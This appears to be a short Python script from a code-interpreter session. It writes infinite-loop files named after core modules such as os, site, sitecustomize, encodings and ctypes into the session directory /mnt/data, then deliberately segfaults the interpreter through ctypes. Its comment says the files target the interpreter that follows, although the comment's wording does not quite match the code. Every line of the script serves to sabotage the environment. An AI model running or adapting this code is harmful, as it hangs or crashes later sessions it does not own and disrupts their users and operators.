# Modules in the session's directory, for the interpreter that follows this one: it must not come upon them.
# ends: signaled 11
import ctypes
for name in ("ast", "re", "numpy", "IPython", "traceback", "random", "uuid", "warnings", "codeop", "sitecustomize", "site",
             "readline", "bdb", "inspect", "linecache", "encodings", "asyncio", "os", "time", "unicodedata", "ctypes"):
    with open(f"/mnt/data/{name}.py", "w") as file:
        file.write("while True: pass\n")
ctypes.string_at(0)
